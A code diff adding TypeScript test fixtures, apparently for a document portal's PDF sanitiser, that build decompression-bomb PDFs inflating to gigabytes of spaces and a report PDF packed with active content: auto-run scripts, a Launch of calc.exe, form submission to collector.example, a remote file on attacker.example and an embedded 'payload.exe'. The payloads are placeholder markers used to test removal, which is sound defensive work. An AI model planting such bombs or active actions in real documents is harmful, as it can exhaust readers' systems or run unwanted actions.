@@ -1,5 +1,16 @@
-import { deflateSync } from 'node:zlib';
-import { degrees, PDFDocument, rgb, StandardFonts } from 'pdf-lib';
+import { createDeflate, deflateSync } from 'node:zlib';
+import {
+  degrees,
+  PDFArray,
+  type PDFContext,
+  type PDFDict,
+  PDFDocument,
+  PDFName,
+  type PDFRef,
+  PDFString,
+  rgb,
+  StandardFonts,
+} from 'pdf-lib';
 import { type DemoReportInput, generateDemoReportPdf } from '../generate-demo-report';
 
 export type RawObject = { dict: string; stream?: Uint8Array | string };
@@ -129,4 +140,182 @@ export function buildDeflateBombPdf(megabytes: number): Uint8Array {
     { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>' },
     { dict: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>', stream: payload },
   ]);
+}
+
+const repeatedSpaces = new Map<number, Promise<Buffer>>();
+
+/**
+ * `megabytes` of spaces deflated at level 9 (about 1 KB per MB), made a chunk at a time so the inflated
+ * size is never held in memory; made once per size and test file.
+ */
+export function deflateRepeatedSpaces(megabytes: number): Promise<Buffer> {
+  let made = repeatedSpaces.get(megabytes);
+  if (!made) {
+    made = (async () => {
+      const chunk = Buffer.alloc(1024 * 1024, 0x20);
+      const deflater = createDeflate({ level: 9 });
+      const output: Buffer[] = [];
+      deflater.on('data', (part: Buffer) => output.push(part));
+      const ended = new Promise((resolve) => deflater.on('end', resolve));
+      for (let index = 0; index < megabytes; index++) {
+        if (!deflater.write(chunk)) await new Promise((resolve) => deflater.once('drain', resolve));
+      }
+      deflater.end();
+      await ended;
+      return Buffer.concat(output);
+    })();
+    repeatedSpaces.set(megabytes, made);
+  }
+  return made;
+}
+
+/**
+ * A valid one-page PDF whose page content stream inflates to `megabytes` of spaces: pdf-lib never inflates
+ * a content stream, so only a reader showing the page pays.
+ */
+export async function buildContentStreamBombPdf(megabytes: number): Promise<Uint8Array> {
+  return buildRawPdf([
+    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
+    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
+    { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>' },
+    { dict: '<< /Filter /FlateDecode >>', stream: await deflateRepeatedSpaces(megabytes) },
+  ]);
+}
+
+/** Like buildDeflateBombPdf, for sizes too large to hold inflated in memory (1024 = 1 GiB). */
+export async function buildObjectStreamBombPdf(megabytes: number): Promise<Uint8Array> {
+  return buildRawPdf([
+    { dict: '<< /Type /Catalog /Pages 2 0 R >>' },
+    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
+    { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>' },
+    {
+      dict: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>',
+      stream: await deflateRepeatedSpaces(megabytes),
+    },
+  ]);
+}
+
+/**
+ * Text each piece of active content in buildActiveContentPdf carries, to look for in the saved bytes (no
+ * parentheses or backslashes, which a PDF string would escape).
+ */
+export const ACTIVE_CONTENT_MARKERS = {
+  openAction: 'app.alert.opened',
+  documentScript: 'this.exportDataObject',
+  pageScript: 'app.launchURL.pageOpen',
+  outlineScript: 'app.alert.bookmark',
+  chainedScript: 'app.alert.chained',
+  fieldScript: 'event.value = "keystroke"',
+  launch: 'calc.exe',
+  submitForm: 'https://collector.example/submit',
+  importData: 'data.fdf',
+  remoteFile: '//attacker.example/share/report.pdf',
+  embeddedFile: 'MZ-EMBEDDED-PAYLOAD',
+  xfa: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">',
+} as const;
+
+/** What must survive the removal: the page text and an ordinary web link. */
+export const KEPT_LINK = 'https://portal.example/help';
+
+/**
+ * A one-page report with every kind of active content the portal removes: an /OpenAction script, document
+ * additional actions, document-level JavaScript and an embedded file in the name dictionary, an XFA form
+ * with a field script, page additional actions, annotations with Launch, SubmitForm, ImportData, GoToR and
+ * a GoTo action whose /Next is a script, a file-attachment annotation, and a bookmark that runs a script.
+ * It also has a plain web link, which must stay.
+ */
+export async function buildActiveContentPdf(): Promise<Uint8Array> {
+  const doc = await PDFDocument.create({ updateMetadata: false });
+  const { context } = doc;
+  const page = doc.addPage([612, 792]);
+  page.drawText('Remote monitoring report with active content', {
+    x: 72,
+    y: 700,
+    size: 14,
+    font: doc.embedStandardFont(StandardFonts.Helvetica),
+  });
+  const script = (code: string) =>
+    context.register(context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
+  const markers = ACTIVE_CONTENT_MARKERS;
+
+  const payload = context.register(
+    context.flateStream(markers.embeddedFile, {
+      Type: 'EmbeddedFile',
+      Subtype: 'application#2Foctet-stream',
+    }),
+  );
+  const fileSpec = context.register(
+    context.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: payload } }),
+  );
+  const xfa = context.register(context.flateStream(`${markers.xfa}<template/></xdp:xdp>`));
+
+  doc.catalog.set(PDFName.of('OpenAction'), script(markers.openAction));
+  doc.catalog.set(PDFName.of('AA'), context.obj({ WC: script('app.alert.closing') }));
+  doc.catalog.set(
+    PDFName.of('Names'),
+    context.obj({
+      JavaScript: { Names: [PDFString.of('init'), script(markers.documentScript)] },
+      EmbeddedFiles: { Names: [PDFString.of('payload.exe'), fileSpec] },
+    }),
+  );
+  const field = context.register(
+    context.obj({
+      FT: 'Tx',
+      T: PDFString.of('note'),
+      AA: { K: script(markers.fieldScript) },
+    }),
+  );
+  doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [field], XFA: xfa }));
+  page.node.set(PDFName.of('AA'), context.obj({ O: script(markers.pageScript) }));
+
+  const link = (action: Record<string, unknown>, y: number) =>
+    context.register(
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [72, y, 300, y + 20],
+        Border: [0, 0, 0],
+        A: context.obj(action as Parameters<PDFContext['obj']>[0] & object),
+      }),
+    );
+  const annotations: PDFRef[] = [
+    link({ Type: 'Action', S: 'Launch', F: PDFString.of(markers.launch) }, 600),
+    link({ Type: 'Action', S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of(markers.submitForm) } }, 570),
+    link({ Type: 'Action', S: 'ImportData', F: PDFString.of(markers.importData) }, 540),
+    link({ Type: 'Action', S: 'GoToR', F: PDFString.of(markers.remoteFile), D: [0, 'Fit'] }, 510),
+    link({ Type: 'Action', S: 'GoTo', D: [page.ref, 'Fit'], Next: script(markers.chainedScript) }, 480),
+    link({ Type: 'Action', S: 'URI', URI: PDFString.of(KEPT_LINK) }, 450),
+    context.register(
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'FileAttachment',
+        Rect: [400, 600, 420, 620],
+        FS: fileSpec,
+        Contents: PDFString.of('Attached file'),
+      }),
+    ),
+  ];
+  page.node.set(PDFName.of('Annots'), context.obj(annotations));
+
+  const outline = context.register(context.obj({ Type: 'Outlines', Count: 1 }));
+  const bookmark = context.register(
+    context.obj({ Title: PDFString.of('Run me'), Parent: outline, A: script(markers.outlineScript) }),
+  );
+  const outlineDict = context.lookup(outline) as PDFDict;
+  outlineDict.set(PDFName.of('First'), bookmark);
+  outlineDict.set(PDFName.of('Last'), bookmark);
+  doc.catalog.set(PDFName.of('Outlines'), outline);
+  return doc.save({ useObjectStreams: false });
+}
+
+/** The annotations of each page, as their /Subtype names. */
+export function annotationSubtypes(doc: PDFDocument): string[][] {
+  return doc.getPages().map((page) => {
+    const annots = page.node.lookup(PDFName.of('Annots'));
+    if (!(annots instanceof PDFArray)) return [];
+    return annots
+      .asArray()
+      .map((annot) => (doc.context.lookup(annot) as PDFDict).lookup(PDFName.of('Subtype')))
+      .map((subtype) => (subtype instanceof PDFName ? subtype.decodeText() : '?'));
+  });
 }
